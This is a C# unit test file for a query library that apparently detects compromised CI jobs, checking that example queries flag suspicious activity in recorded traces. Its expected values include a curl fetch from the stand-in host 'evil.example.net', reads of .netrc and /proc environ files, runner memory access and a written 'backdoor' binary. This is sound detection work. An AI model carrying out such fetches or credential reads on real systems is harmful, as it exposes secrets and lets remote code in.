using Ashiato.Query.Examples;

namespace Ashiato.Query.Tests;

[Trait("Category", "unit")]
public sealed class ExampleLibraryTests : IDisposable
{
    private readonly TestTrace _trace = new();

    private List<string[]> Run(string example, params string[] traces)
    {
        using var session = Sql.Open(traces);
        return Sql.Rows(session, ExampleLibrary.Find(example)!.Sql);
    }

    [Fact]
    public void Every_example_has_a_title_a_description_and_runs()
    {
        var job = _trace.WriteGzip("job.jsonl.gz", TestTrace.CompromisedJob());
        using var session = Sql.Open(job);

        Assert.True(ExampleLibrary.All.Count >= 5);
        foreach (var example in ExampleLibrary.All)
        {
            Assert.False(string.IsNullOrWhiteSpace(example.Title), example.Name);
            Assert.True(example.Description.Length > 20, example.Name);
            Assert.DoesNotContain("-- title:", example.Sql);
            Sql.Rows(session, example.Sql);
        }
    }

    [Fact]
    public void Other_process_access_names_a_worker_known_from_its_snapshot()
    {
        var lines = TestTrace.PidScopedJob().Append(TestTrace.Access(9, 1236, 1236, "node", "process_vm_readv", "self", 1231, comm: "node"));
        var rows = Run("other-process-access", _trace.WriteJsonl("job.jsonl", lines));

        var row = Assert.Single(rows);
        Assert.Equal(["ptrace_attach", "1200", "/home/runner/actions-runner/bin/Runner.Worker", "other", "true"], row[4..]);
    }

    [Fact]
    public void Curl_and_wget_executions_are_listed_with_their_command_line()
    {
        var rows = Run("curl-wget-executions", _trace.WriteJsonl("job.jsonl", TestTrace.CompromisedJob()));

        Assert.Equal("curl -sS https://evil.example.net/x", Assert.Single(rows)[5]);
    }

    [Fact]
    public void Credential_file_reads_find_the_netrc()
    {
        var lines = TestTrace.CompromisedJob().Append(TestTrace.Open(30, 1236, "/proc/1236/environ")).Append(TestTrace.Open(31, 1236, "/proc/1200/environ"));
        var rows = Run("credential-file-reads", _trace.WriteJsonl("job.jsonl", lines));

        Assert.Equal(["/home/runner/.netrc", "/proc/1200/environ"], rows.Select(r => r[4]));
    }

    [Fact]
    public void Install_connections_follow_the_process_tree_of_npm_install()
    {
        var rows = Run("install-outbound-connections", _trace.WriteJsonl("job.jsonl", TestTrace.CompromisedJob()));

        Assert.Equal(["104.16.23.35", "203.0.113.7"], rows.Select(r => r[5]));
        Assert.All(rows, r => Assert.Equal("npm install", r[2]));
        Assert.Equal("evil.example.net", rows[1][8]);
    }

    [Fact]
    public void New_hosts_compared_with_a_normal_run_name_the_exfiltration_host()
    {
        var rows = Run("new-hosts",
            _trace.WriteGzip("suspect.jsonl.gz", TestTrace.CompromisedJob()),
            _trace.WriteGzip("normal.jsonl.gz", TestTrace.NormalJob()));

        Assert.Equal([["suspect", "evil.example.net", "dns_query, net_connect"]], rows);
    }

    [Fact]
    public void Runner_Worker_memory_read_and_writes_outside_the_workspace()
    {
        var job = _trace.WriteJsonl("job.jsonl", TestTrace.CompromisedJob());

        Assert.Equal(2, Run("runner-worker-memory", job).Count);
        Assert.Equal("/usr/local/bin/backdoor", Assert.Single(Run("writes-outside-workspace", job))[4]);
        var outbound = Run("outbound-connections-by-process", job);
        Assert.Equal(["node", "npm", "ssh"], outbound.Select(r => r[0]));
        Assert.Equal(["evil.example.net", "registry.example.org", ""], outbound.Select(r => r[4]));
    }

    [Fact]
    public void Headers_are_parsed_from_the_top_of_the_file()
    {
        var example = ExampleLibrary.Parse("x", "-- title: T\n-- description: D: with colon\nSELECT 1 -- a: comment\n");

        Assert.Equal(("T", "D: with colon", "SELECT 1 -- a: comment\n"), (example.Title, example.Description, example.Sql));
    }

    public void Dispose() => _trace.Dispose();
}
